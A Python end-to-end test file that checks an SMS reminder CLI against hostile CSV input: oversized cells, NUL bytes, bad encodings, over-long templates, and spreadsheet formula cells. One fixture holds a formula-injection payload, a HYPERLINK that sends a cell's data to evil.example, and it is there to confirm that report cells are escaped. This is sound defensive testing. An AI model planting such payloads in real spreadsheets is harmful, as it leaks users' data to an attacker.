"""Hostile input through the real CLI: CSV files that cannot be read refuse the whole file (status 2,
the line, nothing imported), reports are safe to open in a spreadsheet, and no customer data can make
an SMS longer than its tenant allows, neither when a template is saved nor when an SMS is sent."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

from sqlalchemy import func, select, update

from tenant_worker.adapters.orm import CustomerRow, TenantRow
from tenant_worker.services.tenants import local_today
from tests.conftest import new_phone, unique_slug, wait_until
from tests.e2e.test_cli import cli

HEADER = "external_ref,name,phone,plan,amount,currency,expires_on\n"


def create_tenant(env: dict[str, str], slug: str, *extra: str) -> None:
    cli(env, "tenant", "create", "--slug", slug, "--name", "Hostile Net", "--timezone", "Europe/Amsterdam",
        "--originator", "HostileNet", "--sending-window", "00:00-00:00", *extra)  # fmt: skip


def row(ref: str, name: str = "Ann", amount: str = "10.00", plan: str = "Basic") -> str:
    return f"{ref},{name},{new_phone()},{plan},{amount},EUR,2030-01-01\n"


def customers_of(sessions, slug: str) -> int:
    with sessions() as session:
        tenant = session.scalars(select(TenantRow).where(TenantRow.slug == slug)).first()
        if tenant is None:
            return -1
        return int(session.scalar(select(func.count()).where(CustomerRow.tenant_id == tenant.id)) or 0)


def definition(tmp_path: Path, slug: str, extra: str = "") -> Path:
    path = tmp_path / f"{slug}.toml"
    path.write_text(
        f'slug = "{slug}"\nname = "Hostile Net"\ntimezone = "Europe/Amsterdam"\noriginator = "HostileNet"\n{extra}'
    )
    return path


def refused(result) -> str:
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    return result.stderr


def test_a_50_mb_cell_is_refused_with_its_line_and_nothing_is_imported(worker_env, sessions, tmp_path):
    slug = unique_slug("huge")
    create_tenant(worker_env, slug)
    path = tmp_path / "huge.csv"
    with path.open("w") as out:
        out.write(HEADER + row("a") + "b,")
        out.write("x" * 50 * 1024 * 1024)
        out.write(f",{new_phone()},Basic,10,EUR,2030-01-01\n" + row("c"))

    stderr = refused(cli(worker_env, "customers", "import", slug, str(path), check=False))
    assert "line 3: a field is" in stderr and "the limit is 65,536" in stderr
    assert customers_of(sessions, slug) == 0

    other = unique_slug("huge")
    stderr = refused(cli(worker_env, "tenant", "onboard", str(definition(tmp_path, other)), "--customers", str(path),
                         "--allow-rejects", check=False))  # fmt: skip
    assert f"{path}: line 3: a field is" in stderr and "nothing was imported" in stderr
    assert customers_of(sessions, other) == -1 and not (tmp_path / "huge.rejects.csv").exists()


def test_nul_bytes_and_latin1_files_are_refused_with_their_line(worker_env, sessions, tmp_path):
    slug = unique_slug("enc")
    create_tenant(worker_env, slug)
    nul = tmp_path / "nul.csv"
    nul.write_text(HEADER + row("a") + row("b") + row("c", name="Bo\x00b"))
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes((HEADER + row("a") + row("b", name="Zoë")).encode("latin-1"))

    stderr = refused(cli(worker_env, "customers", "import", slug, str(nul), check=False))
    assert "line 4: contains a NUL byte" in stderr
    stderr = refused(cli(worker_env, "customers", "import", slug, str(latin1), check=False))
    assert f"{latin1}: line 3: byte 0xeb (column 5) is not UTF-8" in stderr
    assert customers_of(sessions, slug) == 0

    for path, problem in ((nul, "line 4: contains a NUL byte"), (latin1, "line 3: byte 0xeb")):
        other = unique_slug("enc")
        onboard = cli(worker_env, "tenant", "onboard", str(definition(tmp_path, other)), "--customers", str(path),
                      check=False)  # fmt: skip
        assert problem in refused(onboard)
        assert customers_of(sessions, other) == -1


def test_long_names_are_rejected_and_formula_cells_in_the_rejects_file_are_escaped(worker_env, sessions, tmp_path):
    slug = unique_slug("rej")
    path = tmp_path / "formulas.csv"
    formula = '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"'
    path.write_text(
        HEADER + row("ok-1") + row("long", name="N" * 10_000)
        + row("f1", name=formula, amount="=1+1") + row("f2", name="@SUM(A1:A9)", plan="+cmd", amount="-1")
        + row("ok-2")
    )  # fmt: skip

    create_tenant(worker_env, slug)
    stderr = refused(cli(worker_env, "customers", "import", slug, str(path), check=False))
    assert "line 3: name is 10,000 characters long; the limit is 100" in stderr
    assert "line 4: amount '=1+1'" in stderr and "line 5: amount '-1'" in stderr
    assert customers_of(sessions, slug) == 0

    other = unique_slug("rej")
    onboard = cli(worker_env, "tenant", "onboard", str(definition(tmp_path, other)), "--customers", str(path),
                  "--allow-rejects", "--json")  # fmt: skip
    assert json.loads(onboard.stdout)["rejected"] == 3 and customers_of(sessions, other) == 2
    rejects = tmp_path / "formulas.rejects.csv"
    with rejects.open(newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f))
    assert header[:2] == ["line", "reason"] and [r[0] for r in rows] == ["3", "4", "5"]
    by_line = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert by_line["4"]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert by_line["4"]["amount"] == "'=1+1" and by_line["5"]["amount"] == "'-1"
    assert by_line["5"]["name"] == "'@SUM(A1:A9)" and by_line["5"]["plan"] == "'+cmd"
    assert by_line["3"]["name"] == "N" * 10_000
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r)


def test_a_template_whose_worst_case_exceeds_max_segments_is_refused_when_saved(worker_env, tmp_path):
    slug = unique_slug("seg")
    long = "Dear {customer_name}, your {plan} plan costs {amount} {currency}. " + "Thank you! " * 5
    stderr = refused(cli(worker_env, "tenant", "create", "--slug", slug, "--name", "N", "--timezone", "UTC",
                         "--originator", "Net", "--max-segments", "1", "--template", long, check=False))  # fmt: skip
    # {amount} {currency} is saved as {amount}, at its widest as the locale (en) writes it: "CHF9,999,999,999.99".
    assert "template can need 2 SMS segments (GSM-7, 250 septets in the worst case" in stderr
    assert "{customer_name} 100 characters" in stderr and "the tenant allows 1 (max_segments)" in stderr
    stderr = refused(cli(worker_env, "tenant", "create", "--slug", slug, "--name", "N", "--timezone", "UTC",
                         "--originator", "Net", "--max-segments", "1", check=False))  # fmt: skip
    assert "the default template can need 2 SMS segments" in stderr

    create_tenant(worker_env, slug, "--max-segments", "2", "--template", long)
    assert json.loads(cli(worker_env, "tenant", "show", slug, "--json").stdout)["max_segments"] == 2
    stderr = refused(cli(worker_env, "tenant", "template", slug, long + "{customer_name}" * 2, check=False))
    assert "template can need 3 SMS segments" in stderr and "allows 2" in stderr

    toml = definition(tmp_path, unique_slug("seg"), f'max_segments = 1\n[[templates]]\nbody = "{long}"\n')
    stderr = refused(cli(worker_env, "tenant", "onboard", str(toml), check=False))
    assert "templates[1] can need 2 SMS segments" in stderr and "the default template" not in stderr


def test_an_sms_over_the_cap_at_send_time_is_skipped_as_too_long_and_alerted(
    worker_env, sessions, emulator, sentry_recorder, celery_worker, tmp_path
):
    slug = unique_slug("long")
    create_tenant(worker_env, slug, "--template", "Hi {customer_name}, {days_left} days left on {plan}.")
    today = local_today("Europe/Amsterdam")
    path = tmp_path / "long.csv"
    phone_short, phone_long = new_phone(), new_phone()
    path.write_text(
        HEADER + f"s,Ann,{phone_short},Basic,10,EUR,{today + dt.timedelta(days=1)}\n"
        f"l,{'Ł' * 100},{phone_long},Basic,10,EUR,{today + dt.timedelta(days=1)}\n"
    )
    cli(worker_env, "customers", "import", slug, str(path))
    # The template fits 3 segments; the tenant lowers its cap to 1 afterwards (as an operator could in the DB).
    with sessions.begin() as session:
        session.execute(update(TenantRow).where(TenantRow.slug == slug).values(max_segments=1))

    cli(worker_env, "sweep", "--tenant", slug)

    def settled():
        rows = json.loads(cli(worker_env, "reminders", "list", "--tenant", slug, "--json").stdout)
        return rows if len(rows) == 2 and all(r["status"] in ("sent", "skipped") for r in rows) else None

    rows = sorted(wait_until(settled, 30, "both reminders to settle"), key=lambda r: r["status"])
    assert [(r["status"], r["skip_reason"]) for r in rows] == [("sent", None), ("skipped", "too_long")]
    recipients = {r.recipients[0] for r in emulator.accepted()}
    assert phone_short.lstrip("+") in recipients and phone_long.lstrip("+") not in recipients

    def alerts():
        return [e for e in sentry_recorder.events() if (e.get("tags") or {}).get("tenant") == slug]

    [event] = wait_until(alerts, 15, "the too_long alert")
    assert event["tags"]["reminder_status"] == "skipped"
    text = json.dumps(event, ensure_ascii=False)
    assert event["tags"]["reason"] == "too_long"
    assert "ended skipped (too_long): rendered SMS needs 2 segments (UCS-2" in text and "Ł" not in text
